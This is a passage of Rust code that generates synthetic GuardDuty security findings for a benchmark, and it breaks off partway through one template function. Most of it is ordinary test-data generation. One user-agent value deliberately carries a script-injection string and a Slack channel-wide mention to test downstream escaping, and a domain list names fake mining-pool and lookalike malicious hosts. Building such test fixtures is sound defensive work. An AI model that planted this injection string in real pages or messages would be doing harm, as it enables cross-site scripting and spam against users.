//! Synthetic GuardDuty findings for the throughput bench: a seeded [`Generator`] that writes one
//! JSON line per finding, rotating through 13 templates (EC2 port probe / network connection /
//! DNS, access-key API calls, S3 bucket, EKS audit log, container runtime, ECS, RDS login,
//! Lambda, attack sequence) with varied ids, accounts, Regions, severities, counts, timestamps
//! and addresses. The same seed always gives the same lines.

use std::ops::RangeInclusive;

use serde_json::{Value, json};

/// Seed of the generator's PRNG: the same N always gives the same file.
pub const SEED: u64 = 0x6775_6172_6464_7574;

/// SplitMix64: small, fast, and good enough to vary test data.
struct Rng(u64);

impl Rng {
    /// A generator whose output depends only on `parts`: used for the attributes of a resource
    /// that stay the same every time it appears in a finding.
    fn keyed(parts: &[u64]) -> Self {
        parts.iter().fold(Self(SEED), |mut rng, &part| {
            rng.0 ^= part;
            Self(rng.next())
        })
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (n > 0; the tiny modulo bias does not matter here).
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }

    /// Uniform in `0..len`.
    fn index(&mut self, len: usize) -> usize {
        usize::try_from(self.below(len as u64)).expect("an index below a usize fits a usize")
    }

    /// Seconds (as `i64`, for timestamp arithmetic) uniform in `0..n`.
    fn secs(&mut self, n: u64) -> i64 {
        i64::try_from(self.below(n)).expect("a bench time span fits an i64")
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.index(items.len())]
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    /// `len` lowercase hex digits.
    fn hex(&mut self, len: usize) -> String {
        self.chars(len, b"0123456789abcdef")
    }

    /// `len` characters of an AWS-style unique id (the part after `AKIA`, `AROA`, `AIDA`…).
    fn upper(&mut self, len: usize) -> String {
        self.chars(len, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
    }

    fn chars(&mut self, len: usize, alphabet: &[u8]) -> String {
        (0..len)
            .map(|_| char::from(alphabet[self.index(alphabet.len())]))
            .collect()
    }

    /// A random UUID-shaped string.
    fn uuid(&mut self) -> String {
        format!(
            "{}-{}-4{}-{}-{}",
            self.hex(8),
            self.hex(4),
            self.hex(3),
            self.hex(4),
            self.hex(12)
        )
    }

    /// A public-looking IPv4 address.
    fn public_ip(&mut self) -> String {
        const FIRST: [u8; 24] = [
            5, 23, 31, 37, 45, 46, 61, 77, 80, 85, 89, 91, 103, 109, 116, 141, 159, 176, 185, 193,
            194, 195, 212, 217,
        ];
        let first = self.pick(&FIRST);
        format!(
            "{first}.{}.{}.{}",
            self.below(256),
            self.below(256),
            self.range(1, 254)
        )
    }

    /// A VPC address in 10.0.0.0/8 or 172.31.0.0/16.
    fn private_ip(&mut self) -> String {
        if self.chance(70) {
            format!(
                "10.{}.{}.{}",
                self.below(64),
                self.below(256),
                self.range(4, 254)
            )
        } else {
            format!("172.31.{}.{}", self.below(256), self.range(4, 254))
        }
    }

    /// A finding count: mostly 1, with a long tail of repeated activity.
    fn count(&mut self) -> u64 {
        match self.below(10) {
            0..=5 => 1,
            6 | 7 => self.range(2, 20),
            8 => self.range(21, 500),
            _ => self.range(501, 25_000),
        }
    }
}

/// FNV-1a of `text`, to key [`Rng::keyed`] by name.
fn key(text: &str) -> u64 {
    text.bytes().fold(0xCBF2_9CE4_8422_2325, |hash, byte| {
        (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01B3)
    })
}

/// Where an attacker connects from.
struct Geo {
    country: &'static str,
    code: &'static str,
    city: &'static str,
    lat: f64,
    lon: f64,
    asn: &'static str,
    asn_org: &'static str,
    isp: &'static str,
}

#[rustfmt::skip]
const GEOS: [Geo; 14] = [
    Geo { country: "Netherlands", code: "NL", city: "Amsterdam", lat: 52.3759, lon: 4.8975, asn: "60781", asn_org: "LeaseWeb Netherlands B.V.", isp: "LeaseWeb Netherlands B.V." },
    Geo { country: "Germany", code: "DE", city: "Falkenstein", lat: 50.4779, lon: 12.3713, asn: "24940", asn_org: "Hetzner Online GmbH", isp: "Hetzner Online GmbH" },
    Geo { country: "Russia", code: "RU", city: "Saint Petersburg", lat: 59.8944, lon: 30.2642, asn: "49505", asn_org: "JSC Selectel", isp: "Selectel" },
    Geo { country: "China", code: "CN", city: "Shenzhen", lat: 22.5455, lon: 114.0683, asn: "4134", asn_org: "Chinanet", isp: "China Telecom" },
    Geo { country: "United States", code: "US", city: "North Bergen", lat: 40.7930, lon: -74.0247, asn: "14061", asn_org: "DIGITALOCEAN-ASN", isp: "DigitalOcean, LLC" },
    Geo { country: "United States", code: "US", city: "Columbus", lat: 39.9612, lon: -82.9988, asn: "16509", asn_org: "AMAZON-02", isp: "Amazon.com" },
    Geo { country: "Brazil", code: "BR", city: "Sao Paulo", lat: -23.5475, lon: -46.6361, asn: "28573", asn_org: "Claro NXT Telecomunicacoes Ltda", isp: "Claro S.A." },
    Geo { country: "Vietnam", code: "VN", city: "Hanoi", lat: 21.0245, lon: 105.8412, asn: "45899", asn_org: "VNPT Corp", isp: "VNPT" },
    Geo { country: "Romania", code: "RO", city: "Bucharest", lat: 44.4323, lon: 26.1063, asn: "9050", asn_org: "Orange Romania Communication S.A", isp: "Orange Romania" },
    Geo { country: "India", code: "IN", city: "Mumbai", lat: 19.0728, lon: 72.8826, asn: "9829", asn_org: "National Internet Backbone", isp: "BSNL" },
    Geo { country: "Seychelles", code: "SC", city: "Victoria", lat: -4.6167, lon: 55.45, asn: "204957", asn_org: "Green Floid LLC", isp: "Green Floid LLC" },
    Geo { country: "South Korea", code: "KR", city: "Seoul", lat: 37.5660, lon: 126.9784, asn: "4766", asn_org: "Korea Telecom", isp: "Korea Telecom" },
    Geo { country: "France", code: "FR", city: "Roubaix", lat: 50.6942, lon: 3.1746, asn: "16276", asn_org: "OVH SAS", isp: "OVH SAS" },
    Geo { country: "Singapore", code: "SG", city: "Singapore", lat: 1.2897, lon: 103.8501, asn: "63949", asn_org: "Akamai Connected Cloud", isp: "Linode" },
];

#[rustfmt::skip]
const REGIONS: [&str; 12] = [
    "us-east-1", "us-east-2", "us-west-2", "eu-west-1", "eu-west-2", "eu-central-1", "eu-north-1",
    "ap-southeast-2", "ap-northeast-1", "ap-south-1", "ca-central-1", "sa-east-1",
];

/// User agents as they reach findings; attacker-controlled, so some need escaping downstream.
const USER_AGENTS: [&str; 8] = [
    "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0-1055-aws exe/x86_64.ubuntu.22 prompt/off command/s3.ls",
    "aws-cli/1.29.62 Python/3.11.6 Linux/6.5.0-kali3-amd64 botocore/1.31.62",
    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.79 md/arch#x86_64 lang/python#3.12.2 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69",
    "aws-sdk-go-v2/1.25.2 os/linux lang/go#1.22.1 md/GOOS#linux md/GOARCH#amd64 api/iam#1.31.2",
    "aws-sdk-java/2.25.11 Linux/5.10.210-201.852.amzn2.x86_64 OpenJDK_64-Bit_Server_VM/17.0.10+7-LTS Java/17.0.10 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/adaptive",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "python-requests/2.31.0 \"pacu/1.5.3\" <script>alert(1)</script> <!channel>",
    "[S3Browser/11.6.7 (https://s3browser.com)]",
];

#[rustfmt::skip]
const USER_NAMES: [&str; 10] = [
    "deploy-bot", "alice.martin", "ci-runner", "terraform", "j.okafor", "backup-svc", "root",
    "data-eng-etl", "m.kowalski", "break-glass-admin",
];

#[rustfmt::skip]
const ROLE_NAMES: [&str; 8] = [
    "ec2-app-role", "AWSReservedSSO_AdministratorAccess_4b1c9e2f8a7d6e5c", "GitHubActionsDeploy",
    "eks-node-group-role", "lambda-ingest-role", "OrganizationAccountAccessRole",
    "ecsTaskExecutionRole", "DataPipelineRole",
];

#[rustfmt::skip]
const TEAMS: [&str; 8] = [
    "payments", "platform", "data-eng", "identity", "search", "growth", "security", "mobile-api",
];

#[rustfmt::skip]
const APPS: [&str; 10] = [
    "checkout-api", "ledger", "image-resizer", "auth-gateway", "reporting", "etl-nightly",
    "web-frontend", "notification-svc", "inventory", "ml-feature-store",
];

#[rustfmt::skip]
const DOMAINS: [&str; 10] = [
    "xmr.pool.minergate.com", "pool.supportxmr.com", "c2.update-check.net",
    "login.micros0ft-secure.com", "api.pastebin-cdn.org", "gulf.moneroocean.stream",
    "dl.free-vpn-proxy.ru", "cdn.jsdelivr-static.info", "mining.nicehash-api.io",
    "telemetry.win-updates.xyz",
];

/// 2025-03-01T00:00:00Z: findings of the export were first seen in the 90 days after it.
const EPOCH_START: i64 = 1_740_787_200;

/// A member account of the organisation whose findings the export carries.
struct Account {
    id: String,
    /// Keys the account's stable resources.
    seed: u64,
    /// Where most of its workloads run.
    home_region: &'static str,
}

/// Produces one synthetic finding after another.
pub struct Generator {
    rng: Rng,
    accounts: Vec<Account>,
}

/// What all templates share for one finding.
struct Ctx {
    account: String,
    account_seed: u64,
    region: &'static str,
    detector: String,
    id: String,
    first_seen: i64,
    last_seen: i64,
    count: u64,
}

impl Ctx {
    /// A generator for one of the `pool` resources of `kind` in this account and region, drawn
    /// at random: the same resource comes back with the same attributes in later findings.
    fn resource(&self, rng: &mut Rng, kind: &str, pool: u64) -> Rng {
        Rng::keyed(&[
            self.account_seed,
            key(kind),
            key(self.region),
            rng.below(pool),
        ])
    }

    fn arn(&self, service: &str, rest: &str) -> String {
        format!("arn:aws:{service}:{}:{}:{rest}", self.region, self.account)
    }

    fn ecr(&self) -> String {
        format!("{}.dkr.ecr.{}.amazonaws.com", self.account, self.region)
    }
}

/// The parts of a finding a template decides.
struct Body {
    kind: String,
    severity: Value,
    title: String,
    description: String,
    resource: Value,
    service: Value,
}

impl Generator {
    pub fn new(seed: u64) -> Self {
        let mut rng = Rng(seed);
        // An administrator account's export carries its member accounts' findings too.
        let accounts = (0..40)
            .map(|_| Account {
                id: format!("{:012}", rng.below(1_000_000_000_000)),
                seed: rng.next(),
                home_region: rng.pick(&REGIONS),
            })
            .collect();
        Self { rng, accounts }
    }

    /// Appends finding number `n` as one JSON line (with its `\n`) to `out`.
    pub fn finding(&mut self, n: u64, out: &mut Vec<u8>) {
        let rng = &mut self.rng;
        let account = &self.accounts[rng.index(self.accounts.len())];
        let region = if rng.chance(75) {
            account.home_region
        } else {
            rng.pick(&REGIONS)
        };
        // Detectors are regional: one per account and region.
        let detector = Rng::keyed(&[account.seed, key("detector"), key(region)]).hex(32);
        let first_seen = EPOCH_START + rng.secs(90 * 86_400);
        let count = rng.count();
        let last_seen = if count == 1 {
            first_seen
        } else {
            first_seen + rng.secs(7 * 86_400)
        };
        let cx = Ctx {
            account: account.id.clone(),
            account_seed: account.seed,
            region,
            detector,
            id: rng.hex(32),
            first_seen,
            last_seen,
            count,
        };
        let body = match n % 13 {
            0 => ec2_port_probe(rng, &cx),
            1 => ec2_inbound_connection(rng, &cx),
            2 => ec2_outbound_connection(rng, &cx),
            3 => ec2_dns_request(rng, &cx),
            4 => access_key_anomaly(rng, &cx),
            5 => access_key_stealth(rng, &cx),
            6 => s3_bucket(rng, &cx),
            7 => eks_audit(rng, &cx),
            8 => container_runtime(rng, &cx),
            9 => ecs_cluster(rng, &cx),
            10 => rds_login(rng, &cx),
            11 => lambda_network(rng, &cx),
            _ => attack_sequence(rng, &cx),
        };
        // GuardDuty creates a finding a few minutes after the activity and updates it after the
        // last sighting.
        let created_ms = cx.first_seen * 1000 + 20_000 + rng.secs(280_000);
        let updated_ms = (cx.last_seen * 1000 + 20_000 + rng.secs(280_000)).max(created_ms);
        // Attack sequences carry the `YYYY-MM-DD HH:MM:SS.mmm` form seen in real exports.
        let stamp = if body.kind.starts_with("AttackSequence:") {
            sql_ms
        } else {
            iso_ms
        };
        let arn = cx.arn(
            "guardduty",
            &format!("detector/{}/finding/{}", cx.detector, cx.id),
        );

        // Top-level keys in the order of the API model; nested objects come out key-sorted.
        let fields: [(&str, Value); 15] = [
            ("schemaVersion", json!("2.0")),
            ("accountId", json!(cx.account)),
            ("region", json!(cx.region)),
            ("partition", json!("aws")),
            ("id", json!(cx.id)),
            ("arn", json!(arn)),
            ("type", json!(body.kind)),
            ("resource", body.resource),
            ("service", body.service),
            ("severity", body.severity),
            ("createdAt", json!(stamp(created_ms))),
            ("updatedAt", json!(stamp(updated_ms))),
            ("title", json!(body.title)),
            ("description", json!(body.description)),
            ("confidence", json!(rng.range(5, 9))),
        ];
        out.push(b'{');
        for (i, (name, value)) in fields.iter().enumerate() {
            if i > 0 {
                out.push(b',');
            }
            serde_json::to_writer(&mut *out, name).expect("serialising into a Vec cannot fail");
            out.push(b':');
            serde_json::to_writer(&mut *out, value).expect("serialising into a Vec cannot fail");
        }
        out.extend_from_slice(b"}\n");
    }
}

// --- timestamps ------------------------------------------------------------------------------

/// Calendar date of a day count since 1970-01-01 (Howard Hinnant's `civil_from_days`).
fn civil(days: i64) -> (i64, i64, i64) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    (year, month, day)
}

/// `(date, time)` of epoch milliseconds: `("2025-03-14", "09:26:53.123")`.
fn date_time(epoch_ms: i64) -> (String, String) {
    let (secs, ms) = (epoch_ms.div_euclid(1000), epoch_ms.rem_euclid(1000));
    let (days, rem) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
    let (y, mo, d) = civil(days);
    let (h, mi, s) = (rem / 3600, rem % 3600 / 60, rem % 60);
    (
        format!("{y:04}-{mo:02}-{d:02}"),
        format!("{h:02}:{mi:02}:{s:02}.{ms:03}"),
    )
}

/// `2025-03-14T09:26:53.123Z`
fn iso_ms(epoch_ms: i64) -> String {
    let (date, time) = date_time(epoch_ms);
    format!("{date}T{time}Z")
}

/// `2025-03-14T09:26:53.000Z`, as GuardDuty writes `eventFirstSeen` / `eventLastSeen`.
fn iso_s(epoch_s: i64) -> String {
    iso_ms(epoch_s * 1000)
}

/// `2025-03-14 09:26:53.123`
fn sql_ms(epoch_ms: i64) -> String {
    let (date, time) = date_time(epoch_ms);
    format!("{date} {time}")
}

/// Epoch seconds with milliseconds as a float (`1741000000.123`), up to `max_days` days before
/// `t`, as some resource details carry their creation times.
fn epoch_before(rng: &mut Rng, t: i64, max_days: u64) -> Value {
    let when = t - 3600 - rng.secs(max_days * 86_400);
    json!(when as f64 + rng.below(1000) as f64 / 1000.0)
}

// --- shared pieces ---------------------------------------------------------------------------

/// A severity around `base` (the type's usual value): mostly `base` itself, sometimes written
/// as a float (`8.0`), a neighbouring integer or a decimal within the same band (`6.95`).
fn severity(rng: &mut Rng, base: u64) -> Value {
    const DECIMALS: [f64; 9] = [1.5, 2.5, 3.9, 4.5, 5.3, 6.95, 7.2, 7.8, 8.9];
    match rng.below(20) {
        0..=10 => json!(base),
        11..=13 => json!(base as f64),
        14..=16 => json!(if base > 1 && rng.chance(50) {
            base - 1
        } else {
            (base + 1).min(8)
        }),
        _ => {
            let near: Vec<f64> = DECIMALS
                .into_iter()
                .filter(|d| (d - base as f64).abs() < 2.0)
                .collect();
            if near.is_empty() {
                json!(base)
            } else {
                json!(rng.pick(&near))
            }
        }
    }
}

fn remote_ip_details(rng: &mut Rng, ip: &str) -> Value {
    let geo = &GEOS[rng.index(GEOS.len())];
    let mut jitter = |degrees: f64| {
        let moved = degrees + (rng.below(2001) as f64 - 1000.0) / 10_000.0;
        (moved * 10_000.0).round() / 10_000.0
    };
    let (lat, lon) = (jitter(geo.lat), jitter(geo.lon));
    json!({
        "ipAddressV4": ip,
        "organization": { "asn": geo.asn, "asnOrg": geo.asn_org, "isp": geo.isp, "org": geo.isp },
        "country": { "countryCode": geo.code, "countryName": geo.country },
        "city": { "cityName": geo.city },
        "geoLocation": { "lat": lat, "lon": lon },
    })
}

fn threat_intel(rng: &mut Rng) -> Value {
    let list = rng.pick(&["ProofPoint", "CrowdStrike", "Amazon", "TorExitNodes"]);
    let name = rng.pick(&[
        "TOR exit node",
        "Cryptocurrency mining pool",
        "Known C2 server",
        "SSH brute force source",
        "Malware distribution host",
        "Scanner",
    ]);
    json!({
        "threatIntelligenceDetails": [{ "threatListName": list, "threatNames": [name] }]
    })
}

/// Between `counts.start()` and `counts.end()` resource tags, `Name` first, as an
/// organisation's tagging policy would have them.
fn tags(rng: &mut Rng, name: &str, app: &str, counts: RangeInclusive<u64>) -> Value {
    let n = usize::try_from(rng.range(*counts.start(), *counts.end()))
        .expect("a tag count fits a usize");
    let team = rng.pick(&TEAMS);
    let env = rng.pick(&["production", "staging", "dev", "qa", "sandbox"]);
    let candidates: [(&str, String); 12] = [
        ("Environment", env.to_owned()),
        ("Team", team.to_owned()),
        ("Owner", format!("{team}-oncall@example.com")),
        ("Application", app.to_owned()),
        ("CostCenter", format!("CC-{}", rng.range(1000, 9999))),
        (
            "ManagedBy",
            rng.pick(&["terraform", "cloudformation", "cdk", "pulumi"])
                .to_owned(),
        ),
        ("aws:cloudformation:stack-name", format!("{app}-{env}")),
        (
            "DataClassification",
            rng.pick(&["confidential", "internal", "public", "restricted"])
                .to_owned(),
        ),
        (
            "Compliance",
            rng.pick(&["pci-dss", "hipaa", "soc2", "none"]).to_owned(),
        ),
        (
            "BackupPolicy",
            rng.pick(&["daily-35d", "weekly-12w", "none"]).to_owned(),
        ),
        ("Repository", format!("github.com/example-corp/{app}")),
        (
            "Version",
            format!("v{}.{}.{}", rng.below(4), rng.below(30), rng.below(20)),
        ),
    ];
    let mut out = vec![json!({ "key": "Name", "value": name })];
    out.extend(
        candidates
            .into_iter()
            .take(n.saturating_sub(1))
            .map(|(key, value)| json!({ "key": key, "value": value })),
    );
    Value::Array(out)
}

/// An EC2 instance of the account: its id and its `instanceDetails`.
fn instance(rng: &mut Rng, cx: &Ctx) -> (String, Value) {
    let mut r = cx.resource(rng, "instance", 40);
    let id = format!("i-{}", r.hex(17));
    let app = r.pick(&APPS);
    let private_ip = r.private_ip();
    let public_ip = r.public_ip();
    let dashed_public = public_ip.replace('.', "-");
    let (private_dns, public_dns) = if cx.region == "us-east-1" {
        (
            format!("ip-{}.ec2.internal", private_ip.replace('.', "-")),
            format!("ec2-{dashed_public}.compute-1.amazonaws.com"),
        )
    } else {
        (
            format!(
                "ip-{}.{}.compute.internal",
                private_ip.replace('.', "-"),
                cx.region
            ),
            format!("ec2-{dashed_public}.{}.compute.amazonaws.com", cx.region),
        )
    };
    let group_names = [
        format!("{app}-sg"),
        "default".to_owned(),
        "bastion-ssh".to_owned(),
    ];
    let groups: Vec<Value> = group_names
        .into_iter()
        .take(r.index(3) + 1)
        .map(|name| json!({ "groupName": name, "groupId": format!("sg-{}", r.hex(17)) }))
        .collect();
    let windows = r.chance(12);
    let image = if windows {
        "Microsoft Windows Server 2022 Full Locale English AMI provided by Amazon"
    } else {
        r.pick(&[
            "Amazon Linux 2023 AMI 2023.4.20240401.1 x86_64 HVM kernel-6.1",
            "Canonical, Ubuntu, 22.04 LTS, amd64 jammy image build on 2024-03-01",
            "Amazon EKS optimized Amazon Linux 2 AMI, Kubernetes 1.29",
            "Debian 12 (20240211-1654)",
        ])
    };
    let name = format!("{app}-{}", r.below(40));
    let details = json!({
        "instanceId": id,
        "instanceType": r.pick(&["t3.medium", "m5.xlarge", "c6i.2xlarge", "r6g.large", "m7i.4xlarge", "t3a.small", "g5.xlarge"]),
        "launchTime": iso_s(EPOCH_START - 3600 - r.secs(400 * 86_400)),
        "platform": if windows { json!("windows") } else { Value::Null },
        "productCodes": [],
        "iamInstanceProfile": {
            "arn": format!("arn:aws:iam::{}:instance-profile/{app}-instance-profile", cx.account),
            "id": format!("AIPA{}", r.upper(17)),
        },
        "networkInterfaces": [{
            "ipv6Addresses": [],
            "networkInterfaceId": format!("eni-{}", r.hex(17)),
            "privateDnsName": private_dns,
            "privateIpAddress": private_ip,
            "privateIpAddresses": [{ "privateDnsName": private_dns, "privateIpAddress": private_ip }],
            "subnetId": format!("subnet-{}", r.hex(17)),
            "vpcId": format!("vpc-{}", r.hex(17)),
            "securityGroups": groups,
            "publicDnsName": public_dns,
            "publicIp": public_ip,
        }],
        "outpostArn": null,
        "tags": tags(&mut r, &name, app, 6..=11),
        "instanceState": "running",
        "availabilityZone": format!("{}{}", cx.region, r.pick(&["a", "b", "c"])),
        "imageId": format!("ami-{}", r.hex(17)),
        "imageDescription": image,
    });
    (id, details)
}

/// The caller behind an API call: `accessKeyDetails` and the user name.
fn access_key(rng: &mut Rng, cx: &Ctx) -> (Value, &'static str) {
    let mut r = cx.resource(rng, "principal", 12);
    let user = r.pick(&USER_NAMES);
    let details = if r.chance(60) {
        // A role session: the temporary key changes every time.
        json!({
            "accessKeyId": format!("ASIA{}", rng.upper(16)),
            "principalId": format!("AROA{}:{user}", r.upper(17)),
            "userName": r.pick(&ROLE_NAMES),
            "userType": "AssumedRole",
        })
    } else {
        json!({
            "accessKeyId": format!("AKIA{}", r.upper(16)),
            "principalId": format!("AIDA{}", r.upper(17)),
            "userName": user,
            "userType": if user == "root" { "Root" } else { "IAMUser" },
        })
    };
    (details, user)
}

/// The `service` object every finding has; templates add their own keys to it.
fn service(cx: &Ctx, feature: &str, action: Value, additional: Value, evidence: Value) -> Value {
    json!({
        "serviceName": "guardduty",
        "detectorId": cx.detector,
        "featureName": feature,
        "action": action,
        "resourceRole": "TARGET",
        "additionalInfo": additional,
        "evidence": evidence,
        "eventFirstSeen": iso_s(cx.first_seen),
        "eventLastSeen": iso_s(cx.last_seen),
        "archived": false,
        "count": cx.count,
    })
}

/// `additionalInfo` in its current shape: the fields, plus the same fields as a JSON string.
fn additional_info(mut fields: Value) -> Value {
    let value = fields.to_string();
    if let Value::Object(map) = &mut fields {
        map.insert("value".to_owned(), json!(value));
        map.insert("type".to_owned(), json!("default"));
    }
    fields
}

/// `object` with `key` set to `value`.
fn with(mut object: Value, key: &str, value: Value) -> Value {
    if let Value::Object(map) = &mut object {
        map.insert(key.to_owned(), value);
    }
    object
}

fn network_connection(
    rng: &mut Rng,
    inbound: bool,
    local_port: (u64, &str),
    remote_port: (u64, &str),
    remote_ip: &str,
) -> Value {
    json!({
        "actionType": "NETWORK_CONNECTION",
        "networkConnectionAction": {
            "connectionDirection": if inbound { "INBOUND" } else { "OUTBOUND" },
            "blocked": false,
            "protocol": "TCP",
            "localIpDetails": { "ipAddressV4": rng.private_ip() },
            "localPortDetails": { "port": local_port.0, "portName": local_port.1 },
            "remotePortDetails": { "port": remote_port.0, "portName": remote_port.1 },
            "remoteIpDetails": remote_ip_details(rng, remote_ip),
        },
    })
}

fn api_call(rng: &mut Rng, api: &str, service_name: &str, ip: &str, user_agent: &str) -> Value {
    let mut call = json!({
        "api": api,
        "serviceName": service_name,
        "callerType": "Remote IP",
        "userAgent": user_agent,
        "remoteIpDetails": remote_ip_details(rng, ip),
        "affectedResources": {},
    });
    if rng.chance(25) {
        call = with(call, "errorCode", json!("AccessDenied"));
    }
    json!({ "actionType": "AWS_API_CALL", "awsApiCallAction": call })
}

/// The first `:`-separated part of a finding type: its threat purpose.
fn purpose(kind: &str) -> &str {
    kind.split(':').next().unwrap_or(kind)
}

// --- templates -------------------------------------------------------------------------------

fn ec2_port_probe(rng: &mut Rng, cx: &Ctx) -> Body {
    const PORTS: [(u64, &str); 8] = [
        (22, "SSH"),
        (3389, "RDP"),
        (80, "HTTP"),
        (443, "HTTPS"),
        (5432, "POSTGRESQL"),
        (3306, "MYSQL"),
        (6379, "Unknown"),
        (9200, "Unknown"),
    ];
    let (instance, details) = instance(rng, cx);
    let local_ip = rng.private_ip();
    let probes: Vec<Value> = (0..rng.range(2, 4))
        .map(|_| {
            let (port, name) = rng.pick(&PORTS);
            let ip = rng.public_ip();
            json!({
                "localPortDetails": { "port": port, "portName": name },
                "localIpDetails": { "ipAddressV4": local_ip },
                "remoteIpDetails": remote_ip_details(rng, &ip),
            })
        })
        .collect();
    let action = json!({
        "actionType": "PORT_PROBE",
        "portProbeAction": { "blocked": false, "portProbeDetails": probes },
    });
    let additional =
        additional_info(json!({ "threatName": "Scanner", "threatListName": "ProofPoint" }));
    let base = if rng.chance(70) { 2 } else { 5 };
    Body {
        kind: "Recon:EC2/PortProbeUnprotectedPort".to_owned(),
        severity: severity(rng, base),
        title: format!("Unprotected port on EC2 instance {instance} is being probed."),
        description: format!(
            "EC2 instance {instance} has an unprotected port which is being probed by a known \
             malicious host. The security group attached to the instance allows inbound traffic \
             on this port from 0.0.0.0/0; restrict it to the addresses that need it, or put the \
             service behind a load balancer or AWS Systems Manager Session Manager."
        ),
        resource: json!({ "resourceType": "Instance", "instanceDetails": details }),
        service: service(cx, "FlowLogs", action, additional, threat_intel(rng)),
    }
}

fn ec2_inbound_connection(rng: &mut Rng, cx: &Ctx) -> Body {
    let (instance, details) = instance(rng, cx);
    let remote = rng.public_ip();
    let (kind, port, port_name, base) = rng.pick(&[
        ("UnauthorizedAccess:EC2/SSHBruteForce", 22, "SSH", 2),
        ("UnauthorizedAccess:EC2/RDPBruteForce", 3389, "RDP", 5),
        ("Impact:EC2/PortSweep", 445, "SMB", 8),
    ]);
    let ephemeral = rng.range(32768, 60999);
    let action = network_connection(
        rng,
        true,
        (port, port_name),
        (ephemeral, "Unknown"),
        &remote,
    );
    Body {
        kind: kind.to_owned(),
        severity: severity(rng, base),
        title: format!(
            "{remote} is performing {port_name} brute force attacks against {instance}."
        ),
        description: format!(
            "{remote} is performing {port_name} brute force attacks against {instance}. Brute \
             force attacks are used to gain unauthorized access to your instance by guessing the \
             {port_name} password. If the instance is not meant to accept {port_name} connections \
             from the internet, remove the rule that allows them from its security group; \
             otherwise check its authentication logs for a success."
        ),
        resource: json!({ "resourceType": "Instance", "instanceDetails": details }),
        service: service(
            cx,
            "FlowLogs",
            action,
            additional_info(json!({})),
            Value::Null,
        ),
    }
}

fn ec2_outbound_connection(rng: &mut Rng, cx: &Ctx) -> Body {
    let (instance, details) = instance(rng, cx);
    let remote = rng.public_ip();
    let (kind, port, base, what) = rng.pick(&[
        (
            "Backdoor:EC2/C&CActivity.B",
            443,
            8,
            "a known command and control server",
        ),
        (
            "CryptoCurrency:EC2/BitcoinTool.B",
            3333,
            5,
            "an IP address used for cryptocurrency mining",
        ),
        (
            "UnauthorizedAccess:EC2/TorClient",
            9001,
            8,
            "a Tor Guard or Authority node",
        ),
        (
            "Trojan:EC2/BlackholeTraffic",
            80,
            5,
            "a black hole IP address",
        ),
    ]);
    let ephemeral = rng.range(32768, 60999);
    let port_name = if port == 443 { "HTTPS" } else { "Unknown" };
    let action = network_connection(
        rng,
        false,
        (ephemeral, "Unknown"),
        (port, port_name),
        &remote,
    );
    Body {
        kind: kind.to_owned(),
        severity: severity(rng, base),
        title: format!("EC2 instance {instance} is communicating with {what}."),
        description: format!(
            "EC2 instance {instance} is communicating with {remote}, {what}. This can mean the \
             instance is compromised and is receiving instructions or sending data; isolate it \
             by moving it to a security group without egress, snapshot its volumes for \
             investigation, and rotate any credentials it could reach."
        ),
        resource: json!({ "resourceType": "Instance", "instanceDetails": details }),
        service: service(
            cx,
            "FlowLogs",
            action,
            additional_info(json!({ "threatListName": "ProofPoint" })),
            threat_intel(rng),
        ),
    }
}

fn ec2_dns_request(rng: &mut Rng, cx: &Ctx) -> Body {
    let (instance, details) = instance(rng, cx);
    let label_len = 6 + rng.index(20);
    let suffix = rng.pick(&DOMAINS);
    let domain = format!("{}.{suffix}", rng.hex(label_len));
    let (kind, base) = rng.pick(&[
        ("CryptoCurrency:EC2/BitcoinTool.B!DNS", 8),
        ("Trojan:EC2/DropPoint!DNS", 5),
        ("Trojan:EC2/DNSDataExfiltration", 8),
        ("Backdoor:EC2/C&CActivity.B!DNS", 8),
        ("Impact:EC2/SuspiciousDomainRequest.Reputation", 2),
    ]);
    let with_suffix = suffix.rsplitn(3, '.').take(2).collect::<Vec<_>>();
    let action = json!({
        "actionType": "DNS_REQUEST",
        "dnsRequestAction": {
            "domain": domain,
            "domainWithSuffix": format!("{}.{}", with_suffix[1], with_suffix[0]),
            "protocol": "UDP",
            "blocked": false,
        },
    });
    let associated = if kind.starts_with("Crypto") {
        "cryptocurrency-related activity"
    } else {
        "malware command and control"
    };
    Body {
        kind: kind.to_owned(),
        severity: severity(rng, base),
        title: format!("EC2 instance {instance} is querying a suspicious domain name."),
        description: format!(
            "EC2 instance {instance} is querying the domain name {domain}, which is associated \
             with {associated}. Check which process on the instance resolved it (GuardDuty \
             Runtime Monitoring or the Route 53 Resolver query logs of the VPC show it), and \
             whether that software is expected to run there."
        ),
        resource: json!({ "resourceType": "Instance", "instanceDetails": details }),
        service: service(
            cx,
            "DnsLogs",
            action,
            additional_info(json!({ "domain": domain })),
            threat_intel(rng),
        ),
    }
}

fn access_key_anomaly(rng: &mut Rng, cx: &Ctx) -> Body {
    let (key_details, user) = access_key(rng, cx);
    let ip = rng.public_ip();
